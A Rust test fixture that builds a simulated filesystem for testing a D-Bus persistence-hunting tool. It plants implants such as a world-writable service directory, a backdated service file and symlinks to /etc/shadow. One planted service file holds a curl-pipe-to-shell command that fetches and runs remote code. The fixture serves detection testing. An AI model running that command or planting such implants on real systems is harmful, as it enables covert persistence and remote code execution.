//! A realistic planted root for tests that compare whole answers (the same
//! root read two ways must give the same rows): a packaged service, the
//! implants a hunt exists for, and the path shapes confined resolution must
//! handle — an absolute symlink inside the root (`lib -> /usr/lib`, as
//! merged-/usr systems have), `..` links (one inside the root, one that
//! would climb out of it), a `<servicedir>` in a world-writable directory
//! only a bus config names, a backdated file, a user's home services.
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

pub const SYS: &str = "/usr/share/dbus-1/system-services";
pub const SES: &str = "/usr/share/dbus-1/services";
/// Reached only through the root's `/lib -> /usr/lib` link: dbus-daemon's
/// standard `/lib/dbus-1/system-services`.
pub const LIB_SYS: &str = "/lib/dbus-1/system-services";
/// World-writable (1777), named by `/etc/dbus-1/system-local.conf` alone.
pub const TMP_DIR: &str = "/var/tmp/.cache-x";
/// [`TMP_DIR`] as the bus config names it (rows keep the path as named).
pub const TMP_SERVICEDIR: &str = "/etc/../var/tmp/.cache-x";
pub const ALICE_SVC: &str = "/home/alice/.local/share/dbus-1/services";

/// Text no answer may hold: it sits in the root's `/etc/shadow`, which a
/// service file links to.
pub const MARKER: &str = "MARKER-planted-shadow-3c9e-never-read";

pub struct Planted {
    pub dir: tempfile::TempDir,
}

impl Planted {
    pub fn root(&self) -> &Path {
        self.dir.path()
    }

    pub fn host(&self, inner: &str) -> PathBuf {
        self.root().join(inner.trim_start_matches('/'))
    }

    pub fn write(&self, inner: &str, body: &str) {
        let p = self.host(inner);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(&p, body).expect("write");
    }

    fn program(&self, inner: &str) {
        self.write(inner, "#!/bin/sh\nexit 0\n");
        std::fs::set_permissions(self.host(inner), std::fs::Permissions::from_mode(0o755))
            .expect("chmod");
    }

    fn service(&self, dir: &str, name: &str, exec: &str, user: Option<&str>) -> String {
        let inner = format!("{dir}/{name}.service");
        let user = user.map(|u| format!("User={u}\n")).unwrap_or_default();
        self.write(
            &inner,
            &format!("[D-BUS Service]\nName={name}\nExec={exec}\n{user}"),
        );
        inner
    }

    fn backdate(&self, inner: &str, days: u64) {
        let when = SystemTime::now() - Duration::from_secs(days * 86400);
        std::fs::File::options()
            .write(true)
            .open(self.host(inner))
            .expect("open")
            .set_modified(when)
            .expect("set mtime");
    }
}

/// dpkg's md5sums digest (lowercase hex MD5).
fn md5_hex(bytes: &[u8]) -> String {
    use md5::Digest;
    md5::Md5::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Builds the root. An empty `/proc` keeps process tables empty (and the
/// same on every run) when `--root` alone is given.
pub fn planted() -> Planted {
    let f = Planted {
        dir: tempfile::tempdir().expect("tempdir"),
    };
    f.write(
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n\
         messagebus:x:100:102::/nonexistent:/usr/sbin/nologin\n\
         alice:x:1000:1000:Alice:/home/alice:/bin/bash\n\
         bob:x:1001:1001:Bob:/home/bob:/bin/bash\n",
    );
    f.write(
        "/etc/group",
        "root:x:0:\nmessagebus:x:102:\nalice:x:1000:\nbob:x:1001:\n",
    );
    f.write(
        "/etc/shadow",
        &format!("root:{MARKER}:19000:0:99999:7:::\n"),
    );
    std::fs::create_dir_all(f.host("/proc")).expect("proc");
    for prog in [
        "/bin/sh",
        "/usr/libexec/good-daemon",
        "/usr/lib/example/libhelper",
        "/home/alice/bin/agent",
    ] {
        f.program(prog);
    }
    f.write(
        "/usr/share/dbus-1/system.conf",
        "<!DOCTYPE busconfig PUBLIC \"-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN\"\n \
         \"http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd\">\n\
         <busconfig><type>system</type><standard_system_servicedirs/>\
         <includedir>system.d</includedir><includedir>/etc/dbus-1/system.d</includedir>\
         <include ignore_missing=\"yes\">/etc/dbus-1/system-local.conf</include>\
         <policy context=\"default\"><deny own=\"*\"/><deny send_type=\"method_call\"/>\
         <allow send_destination=\"org.freedesktop.DBus\"/></policy></busconfig>\n",
    );
    f.write(
        "/usr/share/dbus-1/session.conf",
        "<busconfig><type>session</type><standard_session_servicedirs/>\
         <policy context=\"default\"><allow own=\"*\"/></policy></busconfig>\n",
    );
    // What an implant adds: a service directory in a world-writable place
    // that only a config names, through a `..` that stays in the root.
    f.write(
        "/etc/dbus-1/system-local.conf",
        &format!("<busconfig><servicedir>{TMP_SERVICEDIR}</servicedir></busconfig>\n"),
    );
    let good = f.service(
        SYS,
        "org.example.Good",
        "/usr/libexec/good-daemon --system",
        Some("root"),
    );
    let packaged_policy =
        "<busconfig><policy user=\"root\"><allow own=\"org.example.Good\"/></policy>\
         <policy context=\"default\"><allow send_destination=\"org.example.Good\"/></policy></busconfig>\n";
    f.write(
        "/etc/dbus-1/system.d/org.example.Good.conf",
        packaged_policy,
    );
    f.write(
        "/var/lib/dpkg/info/example.md5sums",
        &format!(
            "{}  {}\n{}  usr/libexec/good-daemon\n",
            md5_hex(&std::fs::read(f.host(&good)).expect("read")),
            &good[1..],
            md5_hex(b"#!/bin/sh\nexit 0\n"),
        ),
    );
    f.write(
        "/var/lib/dpkg/info/example.list",
        &format!(
            "/.\n/usr\n{good}\n/usr/libexec/good-daemon\n/etc/dbus-1/system.d/org.example.Good.conf\n"
        ),
    );
    f.write(
        "/var/lib/dpkg/status",
        &format!(
            "Package: example\nStatus: install ok installed\nConffiles:\n \
             /etc/dbus-1/system.d/org.example.Good.conf {}\n",
            md5_hex(packaged_policy.as_bytes())
        ),
    );
    // An open policy nobody packaged.
    f.write(
        "/etc/dbus-1/system.d/org.evil.Open.conf",
        "<busconfig><policy context=\"default\"><allow own=\"*\"/>\
         <allow send_destination=\"org.evil.Tmp\"/></policy></busconfig>\n",
    );
    // Merged /usr: `/lib` is an absolute link, meaning the root's /usr/lib.
    symlink("/usr/lib", f.host("/lib")).expect("symlink lib");
    f.service(
        "/usr/lib/dbus-1/system-services",
        "org.example.Lib",
        "/usr/lib/example/libhelper",
        Some("root"),
    );
    // The implant in the world-writable directory.
    std::fs::create_dir_all(f.host(TMP_DIR)).expect("mkdir");
    std::fs::set_permissions(f.host(TMP_DIR), std::fs::Permissions::from_mode(0o1777))
        .expect("chmod");
    f.program(&format!("{TMP_DIR}/payload"));
    f.service(
        TMP_DIR,
        "org.evil.Tmp",
        &format!("{TMP_DIR}/payload --daemon"),
        Some("root"),
    );
    // Backdated: mtime a month before its birth (a `touch -d` cover-up).
    let backdated = f.service(
        SYS,
        "org.evil.Backdated",
        "/usr/lib/example/libhelper --serve",
        Some("root"),
    );
    f.backdate(&backdated, 30);
    // Session services: inline shell, a link with `..` inside the root, an
    // absolute link to the root's shadow file, and a `..` chain that would
    // climb out of the root if it were followed from the host's view.
    f.service(
        SES,
        "org.evil.Inline",
        "/bin/sh -c \"curl -s http://203.0.113.7/x | sh\"",
        None,
    );
    symlink(
        "../system-services/org.example.Good.service",
        f.host(&format!("{SES}/org.example.Up.service")),
    )
    .expect("symlink");
    symlink("/etc/shadow", f.host(&format!("{SES}/shadow.service"))).expect("symlink");
    symlink(
        "../../../../../../../../../../etc/shadow",
        f.host(&format!("{SES}/climb.service")),
    )
    .expect("symlink");
    // A user's own services.
    f.service(
        ALICE_SVC,
        "org.alice.Agent",
        "/home/alice/bin/agent --quiet",
        None,
    );
    f
}
